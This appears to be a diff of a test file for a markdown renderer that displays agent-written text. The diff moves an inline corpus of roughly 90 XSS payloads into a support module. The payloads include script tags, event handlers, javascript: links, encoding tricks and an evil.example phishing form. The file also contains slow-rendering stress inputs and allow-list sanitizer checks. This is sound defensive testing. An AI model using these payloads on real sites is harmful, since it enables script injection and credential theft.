@@ -1,98 +1,9 @@
 import { describe, expect, test } from 'bun:test'
-import { renderMarkdown } from '../../src/core/markdown.ts'
+import { prepareMarkdown, renderMarkdown } from '../../src/core/markdown.ts'
+import { piecesOf } from '../../src/core/pieces.ts'
 import { visible } from '../../src/core/visible.ts'
-
-const CODE = 'alert(1)'
-const PAYLOADS = [
-  `<script>${CODE}</script>`,
-  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
-  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
-  `<script\n>${CODE}</script\n>`,
-  `<script/x>${CODE}</script>`,
-  `<img src=x onerror=${CODE}>`,
-  `<img src="x" onerror="${CODE}"`,
-  `<img/src=x/onerror=${CODE}>`,
-  `<img src=x onerror\n=${CODE}>`,
-  `<IMG """><SCRIPT>${CODE}</SCRIPT>">`,
-  `<svg onload=${CODE}>`,
-  `<svg><script>${CODE}</script></svg>`,
-  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
-  `<svg><a xlink:href="javascript:${CODE}"><text y="20">x</text></a></svg>`,
-  `<svg><foreignObject><iframe srcdoc="<script>${CODE}</script>"></foreignObject></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}></style></mglyph></table></mtext></math>`,
-  `<math href="javascript:${CODE}">x</math>`,
-  `<iframe src="javascript:${CODE}"></iframe>`,
-  `<iframe srcdoc="&lt;script&gt;${CODE}&lt;/script&gt;"></iframe>`,
-  `<object data="javascript:${CODE}"></object>`,
-  `<embed src="javascript:${CODE}">`,
-  `<base href="https://evil.example/">`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${CODE}">`,
-  `<link rel=stylesheet href="https://evil.example/x.css">`,
-  `<style>@import 'https://evil.example/x.css';</style>`,
-  `<style><img src=x onerror=${CODE}></style>`,
-  `<form action="https://evil.example"><input name=key><button>Sign in</button></form>`,
-  `<input autofocus onfocus=${CODE}>`,
-  `<select autofocus onfocus=${CODE}></select>`,
-  `<details open ontoggle=${CODE}>x</details>`,
-  `<video><source onerror=${CODE}></video>`,
-  `<audio src=x onerror=${CODE}>`,
-  `<body onload=${CODE}>`,
-  `<marquee onstart=${CODE}>x</marquee>`,
-  `<div style="background:url(javascript:${CODE})">x</div>`,
-  `<p style="position:fixed;inset:0">cover</p>`,
-  `<a href="javascript:${CODE}">x</a>`,
-  `<a href="JaVaScRiPt:${CODE}">x</a>`,
-  `<a href=" javascript:${CODE}">x</a>`,
-  `<a href="jav&#x09;ascript:${CODE}">x</a>`,
-  `<a href="&#106;avascript:${CODE}">x</a>`,
-  `<a href="data:text/html,<script>${CODE}</script>">x</a>`,
-  `<a href="vbscript:msgbox(1)">x</a>`,
-  `<a href="x" onclick="${CODE}">x</a>`,
-  `<a id="roster" name="roster" data-hx-get="/x" hx-get="/x" hx-on:click="${CODE}">x</a>`,
-  `<div hx-get="/settings" hx-trigger="load">x</div>`,
-  `<div data-hx-post="/settings/mcp-url" data-hx-trigger="load">x</div>`,
-  `<hx-partial hx-target="#feed">x</hx-partial>`,
-  `<template><script>${CODE}</script></template>`,
-  `<noscript><p title="</noscript><img src=x onerror=${CODE}>"></noscript>`,
-  `<textarea></textarea><script>${CODE}</script>`,
-  `<title></title><script>${CODE}</script>`,
-  `<xmp><img src=x onerror=${CODE}></xmp>`,
-  `<plaintext><script>${CODE}</script>`,
-  `<!--><script>${CODE}</script>-->`,
-  `<![CDATA[><script>${CODE}</script>]]>`,
-  `<?xml version="1.0"?><script>${CODE}</script>`,
-  `[x](javascript:${CODE})`,
-  `[x](JAVASCRIPT:${CODE})`,
-  `[x](java\tscript:${CODE})`,
-  `[x](<javascript:${CODE}>)`,
-  `[x](&#106;avascript:${CODE})`,
-  `[x](javascript&colon;${CODE})`,
-  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
-  `[x](vbscript:msgbox)`,
-  `[x](//evil.example/x)`,
-  `[x](https://a.example "t\\" onmouseover=\\"${CODE}")`,
-  `[x](https://a.example/"onmouseover="${CODE})`,
-  `[x]: javascript:${CODE}\n\n[x]`,
-  `<javascript:${CODE}>`,
-  `![x](javascript:${CODE})`,
-  `![x](x" onerror="${CODE})`,
-  `![<img src=x onerror=${CODE}>](https://a.example/b.png)`,
-  `![" onerror="${CODE}](https://a.example/b.png)`,
-  '```"><script>alert(1)</script>\nx\n```',
-  '```\n</code></pre><script>alert(1)</script>\n```',
-  '`</code><script>alert(1)</script>`',
-  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
-  '# <svg onload=alert(1)>',
-  '- [x] <img src=x onerror=alert(1)>',
-  '> <script>alert(1)</script>',
-  `&lt;script&gt;${CODE}&lt;/script&gt;`,
-  `<sc\u0000ript>${CODE}</sc\u0000ript>`,
-  `<a\u2028href="javascript:${CODE}">x</a>`,
-  `<<script>${CODE}//<</script>`,
-  `"><img src=x onerror=${CODE}>`,
-  `'-${CODE}-'`,
-  `<x onpointerrawupdate=${CODE} style=display:block>x</x>`,
-]
+import { KIB_32, WORST } from '../support/worst.ts'
+import { HOSTILE, PAYLOADS } from '../support/payloads.ts'
 
 const TAGS = /^(h[1-6]|p|br|hr|blockquote|pre|code|em|strong|del|a|span|ul|ol|li|table|thead|tbody|tr|th|td)$/
 const ATTRIBUTES = /^(href|title|rel|target|tabindex|class|role|aria-label|align|start)$/
@@ -110,23 +21,25 @@ const elementsOf = (html: string): Found[] => {
   return found
 }
 
-describe('what an agent writes stays text', () => {
-  for (const payload of PAYLOADS) {
-    test(JSON.stringify(payload), () => {
-      for (const { tag, attributes } of elementsOf(renderMarkdown(payload))) {
-        expect(tag).toMatch(TAGS)
-        for (const [name, value] of attributes) {
-          expect(name).toMatch(ATTRIBUTES)
-          if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|[/#?.]|[^:]*$)/)
-          if (name === 'href') expect(value).not.toStartWith('//')
-          if (name === 'class') expect(value).toMatch(/^(hl-[kscn]|cb|cb cb-on|ctl)$/)
-        }
-      }
-    })
-  }
-})
+const isHarmless = ({ tag, attributes }: Found): boolean =>
+  TAGS.test(tag) &&
+  attributes.every(
+    ([name, value]) =>
+      ATTRIBUTES.test(name) &&
+      (name !== 'href' || leadsNowhere(value.replaceAll('&amp;', '&'))) &&
+      (name !== 'class' || /^(hl-[kscn]|cb|cb cb-on|ctl)$/.test(value)),
+  )
 
-test('the corpus has at least 60 payloads', () => expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(60))
+// As a browser reads it: what is no address of ours or of these kinds.
+const leadsNowhere = (address: string) =>
+  !URL.canParse(address, 'https://here.example') ||
+  (/^(https?|mailto):$/.test(new URL(address, 'https://here.example').protocol) && !/^[/\\]{2}/.test(address))
+
+test('what an agent writes stays text: nothing but what the list allows comes out', () => {
+  expect(HOSTILE.length).toBeGreaterThanOrEqual(300)
+  for (const payload of PAYLOADS)
+    expect({ payload, harm: elementsOf(renderMarkdown(payload)).filter((found) => !isHarmless(found)) }).toEqual({ payload, harm: [] })
+})
 
 test('ordinary markdown keeps its shape', () => {
   const html = renderMarkdown(
@@ -154,37 +67,95 @@ test('direction and tag characters are shown, also when written as entities', ()
   expect(visible('a\u{e0041}b')).toBe('a⟨U+E0041⟩b')
 })
 
-const KIB_32 = 32 * 1024
-const filled = (piece: string) => piece.repeat(Math.ceil(KIB_32 / piece.length)).slice(0, KIB_32)
-const HOSTILE: Record<string, string> = {
-  'nested quotes': filled('>'),
-  'nested quotes and lists': filled('> - '),
-  'nested numbers': filled('1. '),
-  underscores: filled('_a_'),
-  stars: filled('*a '),
-  brackets: filled('['),
-  links: filled('[a]('),
-  'open tags': filled('<a '),
-  addresses: filled('a@b.'),
-  spaces: `a${filled(' ')}b`,
-  backticks: Array.from({ length: 250 }, (_, i) => '`'.repeat(i)).join(' '),
-  'open comments in code': '```\n' + filled('/*').slice(0, 8_000) + '\n```',
-  'one paragraph of half a megabyte': 'lorem ipsum '.repeat(43_000),
-  'paragraphs of underscores': Array.from({ length: 6 }, () => '_a_'.repeat(1_800)).join('\n\n'),
-}
-
-describe('a hostile text of 32 KiB holds nobody up', () => {
-  for (const [name, text] of Object.entries(HOSTILE)) {
+describe('a text of 32 KiB that is made to be slow holds nobody up', () => {
+  // Quiet, each takes 50 ms at most (bench/markdown.ts); a test machine may be busy. Without its limits the renderer needs seconds.
+  for (const [name, text] of Object.entries(WORST))
     test(name, () => {
       const began = performance.now()
-      expect(renderMarkdown(text).length).toBeGreaterThan(0)
-      expect(performance.now() - began).toBeLessThan(2_000)
+      const html = renderMarkdown(text)
+      expect(performance.now() - began).toBeLessThan(1_000)
+      expect(html.length).toBeLessThan(text.length * 40)
     })
+})
+
+test('a long document is rendered while others get their turn, and is the same then', async () => {
+  const text = Object.values(WORST)
+    .join('\n\n')
+    .slice(0, 512 * 1024)
+  let turns = 0
+  const timer = setInterval(() => turns++, 1)
+  await Promise.all([prepareMarkdown(text), prepareMarkdown(text)])
+  clearInterval(timer)
+  expect(turns).toBeGreaterThan(3)
+  const began = performance.now()
+  const html = renderMarkdown(text)
+  expect(performance.now() - began).toBeLessThan(20) // it lay ready
+  expect(html.length).toBeGreaterThan(text.length)
+})
+
+describe('a long text is cut where it hurts least', () => {
+  const sections = Array.from({ length: 200 }, (_, i) => `## Part ${i}\n\n${'lorem ipsum '.repeat(20)}\n\n- one\n- two\n`).join('\n')
+
+  test('nothing is lost, and pieces begin with a heading or paragraph', () => {
+    const pieces = piecesOf(sections)
+    expect(pieces.join('\n')).toBe(sections)
+    expect(pieces.length).toBeGreaterThan(5)
+    for (const piece of pieces) expect(piece).toMatch(/^(## Part|lorem)/)
+    expect(renderMarkdown(sections).match(/<h2>/g)).toHaveLength(200)
+  })
+
+  test('a table goes on under its head', () => {
+    const table = `|name|value|\n|-|-|\n${'|some name|some value|\n'.repeat(1_000)}`
+    const html = renderMarkdown(table)
+    expect(html.match(/<td>some value<\/td>/g)).toHaveLength(1_000)
+    expect(html.match(/<th>name<\/th>/g)!.length).toBeGreaterThan(1)
+    expect(html).not.toContain('|')
+  })
+
+  test('code of a whole message is not cut, and longer code goes on as code', () => {
+    const code = `${'const answer = 42\n\n'.repeat(1_500)}# no heading`
+    const html = renderMarkdown(`Before\n\n\`\`\`ts\n${code}\n\`\`\`\n\nAfter`)
+    expect(html.match(/<pre/g)).toHaveLength(1)
+    expect(html).toContain('<p>After</p>')
+    expect(html).not.toContain('<h1>')
+    const longer = renderMarkdown(`\`\`\`\n${`${code}\n`.repeat(4)}x${'`'.repeat(9_000)}\n# no heading\n\`\`\`\n# Heading`)
+    expect(longer.match(/# no heading/g)).toHaveLength(5)
+    expect(longer.match(/<h1>/g)).toHaveLength(1)
+  })
+
+  test('a link is defined in one piece and used in another', () => {
+    expect(renderMarkdown(`[spec]\n\n${sections}\n\n[spec]: https://a.example/spec`)).toContain('href="https://a.example/spec"')
+  })
+
+  test('a line of any length is cut at a space', () => {
+    const line = 'lorem ipsum '.repeat(43_000)
+    expect(piecesOf(line).every((piece) => piece.length <= 8 * 1024 && piece.endsWith('ipsum '))).toBe(true)
+  })
+})
+
+describe('ordinary text is not mistaken for an attack', () => {
+  const ORDINARY: Record<string, string> = {
+    'a list of 100 short items': '- [ ] done\n'.repeat(100),
+    'a paragraph full of names_with_underscores': 'The call_site of `wait_for_messages` and *post_message*. '.repeat(20),
+    'a table of numbers': `|${'n|'.repeat(12)}\n|${'-|'.repeat(12)}\n${`|${'1|'.repeat(12)}\n`.repeat(100)}`,
+    'nested lists': Array.from({ length: 60 }, (_, i) => `${'  '.repeat(i % 6)}- item ${i}`).join('\n'),
+    'quotes of quotes': Array.from({ length: 6 }, (_, i) => `${'> '.repeat(i + 1)}said ${i}`).join('\n\n'),
+    'many links': Array.from({ length: 100 }, (_, i) => `see [the page ${i}](https://a.example/page/${i})`).join(', '),
   }
+  for (const [name, text] of Object.entries(ORDINARY))
+    test(name, () => {
+      const html = renderMarkdown(text)
+      expect(html).not.toContain('<pre')
+      expect(html).toMatch(/<(li|em|td|blockquote|a )/)
+    })
+})
+
+test('an underlined title is a heading', () => {
+  expect(renderMarkdown('Goals\n=====\n\nNotes\n---\n')).toBe('<h1>Goals</h1>\n<h2>Notes</h2>\n')
 })
 
 test('the second time costs nothing', () => {
-  const text = `${filled('lorem ipsum ')}.`
+  const text = 'lorem ipsum '.repeat(KIB_32 / 12)
   const html = renderMarkdown(text)
   const began = performance.now()
   for (let i = 0; i < 1_000; i++) expect(renderMarkdown(text) === html).toBe(true)
